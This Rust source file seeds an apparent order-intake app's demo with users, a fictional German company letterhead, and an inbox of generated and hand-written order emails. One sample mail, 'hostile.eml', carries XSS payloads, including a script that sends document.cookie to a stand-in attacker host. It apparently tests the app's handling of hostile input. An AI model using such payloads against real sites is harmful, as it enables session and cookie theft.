//! What `orderdesk demo` adds beside the company: one user per role and an
//! inbox with work in it — generated orders and RFQs in every format (clean
//! and with problems), plus hand-written status questions, a change, a
//! cancellation and a hostile mail — processed at once, so the inbox, the
//! straight-through orders and the review queue are there within seconds.

use domain::access::Role;
use domain::event::Actor;
use store::Store;

use app::intake::{IntakeError, Pipeline, drain, receive};
use app::users::{UserError, add_user, generate_password};

/// The demo's people: user name, full name, role.
pub const DEMO_USERS: [(&str, &str, Role); 4] = [
    ("clerk", "Clara Clerk", Role::Clerk),
    ("sales", "Sami Sales", Role::SalesAdmin),
    ("manager", "Mia Manager", Role::Manager),
    ("admin", "Adam Admin", Role::Admin),
];

/// Gives the demo company a letterhead for its confirmations when none is
/// set yet (here or in orderdesk.toml); `true` when it did.
pub async fn letterhead(
    store: &Store,
    configured: &app::outbound::Outbox,
) -> Result<bool, app::settings::SettingsError> {
    let now = app::settings::outbox(store, configured).await?;
    if !now.letter.company.name.trim().is_empty() {
        return Ok(false);
    }
    let company = app::confirmation::CompanySettings {
        name: "Muster Verbindungstechnik GmbH".into(),
        street: "Industriestraße 12".into(),
        zip: "70565".into(),
        city: "Stuttgart".into(),
        country: "Deutschland".into(),
        phone: "+49 711 555 0100".into(),
        email: "auftrag@muster-verbindungstechnik.example".into(),
        web: "www.muster-verbindungstechnik.example".into(),
        vat_id: "DE999999999".into(),
        register: "Amtsgericht Stuttgart HRB 999999".into(),
        managing_directors: "Erika Muster".into(),
        bank: "Musterbank Stuttgart".into(),
        iban: "DE00 1234 5678 9012 3456 78".into(),
        bic: "MUSTDESSXXX".into(),
        ..now.letter.company.clone()
    };
    app::settings::save_letter(store, configured, company, now.letter.confirmations, "demo").await?;
    Ok(true)
}

/// Creates the demo users that do not exist yet; returns (user, role, password) of each created.
pub async fn create_users(store: &Store) -> Result<Vec<(String, Role, String)>, UserError> {
    let mut created = Vec::new();
    for (username, name, role) in DEMO_USERS {
        if store.user(username).await?.is_some() {
            continue;
        }
        let password = generate_password()?;
        add_user(
            store,
            username,
            name,
            role.as_str(),
            &password,
            &Actor::System("demo".into()),
        )
        .await?;
        created.push((username.to_owned(), role, password));
    }
    Ok(created)
}

#[derive(Debug, thiserror::Error)]
pub enum DemoInboxError {
    #[error("generating the demo inbox failed: {0}")]
    Generate(#[from] corpus::CorpusError),
    #[error(transparent)]
    Intake(#[from] IntakeError),
    #[error(transparent)]
    Store(#[from] store::StoreError),
}

fn mail(from: &str, subject: &str, body: &str, n: usize) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: orders@orderdesk.example\r\nSubject: {subject}\r\n\
         Message-ID: <demo-{n}@orderdesk.example>\r\nDate: Sun, 22 Nov 2026 08:{:02}:00 +0100\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n",
        n % 60
    )
    .into_bytes()
}

/// Mails a generator does not write: questions, a change, a cancellation, a hostile one.
async fn hand_written(store: &Store) -> Result<Vec<(String, Vec<u8>)>, store::StoreError> {
    let customers = store.search_customers("", None, 40).await?;
    let mut senders = customers.iter().filter_map(|c| {
        c.emails
            .first()
            .map(|e| (e.clone(), c.name.clone(), c.language.clone()))
    });
    let (de, de_name) = senders
        .find(|(_, _, l)| l.as_deref() == Some("de"))
        .map_or(("einkauf@example.de".to_owned(), "Kunde".to_owned()), |(e, n, _)| {
            (e, n)
        });
    let (en, en_name) = senders.find(|(_, _, l)| l.as_deref() != Some("de")).map_or(
        ("purchasing@example.com".to_owned(), "Customer".to_owned()),
        |(e, n, _)| (e, n),
    );
    Ok(vec![
        (
            "status-de.eml".into(),
            mail(
                &de,
                "Lieferstatus Bestellung 4500017731",
                &format!(
                    "Guten Tag,\n\nwann wird unsere Bestellung 4500017731 vom 12.11.2026 geliefert? \
                     Bitte um kurze Rückmeldung zum Liefertermin.\n\nMit freundlichen Grüßen\nEinkauf, {de_name}"
                ),
                1,
            ),
        ),
        (
            "status-en.eml".into(),
            mail(
                &en,
                "Where is my order PO 88213?",
                &format!(
                    "Hello,\n\ncould you tell us the status of our order PO 88213? We have not received a \
                     delivery date yet.\n\nKind regards,\nPurchasing, {en_name}"
                ),
                2,
            ),
        ),
        (
            "change-de.eml".into(),
            mail(
                &de,
                "Änderung zu Bestellung 4500017731",
                "Hallo,\n\nbitte ändern Sie in unserer Bestellung 4500017731 die Menge von Pos. 2 auf 200 Stück. \
                 Alle anderen Positionen bleiben unverändert.\n\nDanke und Gruß",
                3,
            ),
        ),
        (
            "cancel-en.eml".into(),
            mail(
                &en,
                "Cancellation of PO 88190",
                "Hello,\n\nplease cancel our purchase order PO 88190 in full; the project was stopped.\n\nRegards",
                4,
            ),
        ),
        (
            "hostile.eml".into(),
            mail(
                "\"<img src=x onerror=alert(1)>\" <attacker@example.net>",
                "<script>alert('order')</script> Urgent order",
                "<b>Order</b> 10 pcs <script>document.location='https://evil.example/?c='+document.cookie</script>",
                5,
            ),
        ),
    ])
}

/// Receives and processes the demo inbox: `count` generated documents plus the hand-written mails.
pub async fn load_inbox(store: &Store, pipeline: &Pipeline, seed: u64, count: usize) -> Result<usize, DemoInboxError> {
    let data = app::draft::load_master_data(store).await?;
    let mut files: Vec<(String, Vec<u8>)> = corpus::generate(crate::corpus_master(&data), seed, count)?
        .into_iter()
        .map(|g| (g.file_name, g.bytes))
        .collect();
    files.extend(hand_written(store).await?);
    for (name, bytes) in &files {
        receive(store, "demo", Some(name), bytes).await?;
    }
    drain(store, pipeline).await?;
    Ok(files.len())
}
